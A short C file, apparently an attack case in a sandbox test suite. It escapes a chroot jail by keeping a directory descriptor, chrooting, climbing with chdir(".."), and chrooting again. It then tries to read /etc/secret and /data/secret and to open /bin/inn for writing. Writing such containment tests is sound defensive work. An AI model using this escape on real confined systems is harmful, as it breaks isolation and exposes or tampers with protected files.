/* Leaves its root by a kept directory and a second chroot (chroot(2)). */
#include "common/attack.h"

static void attempt(void) {
    const char *place = own("jail");
    mkdir(place, 0777);
    int kept = TRY(open("/", O_RDONLY | O_DIRECTORY));
    TRY(chroot(place));
    TRY(fchdir(kept));
    for (int n = 0; n < 64; n++) {
        if (chdir("..") < 0) {
            break;
        }
    }
    TRY(chroot("."));
    show("/etc/secret");
    show("/data/secret");
    TRY(open("/bin/inn", O_WRONLY | O_APPEND));
}
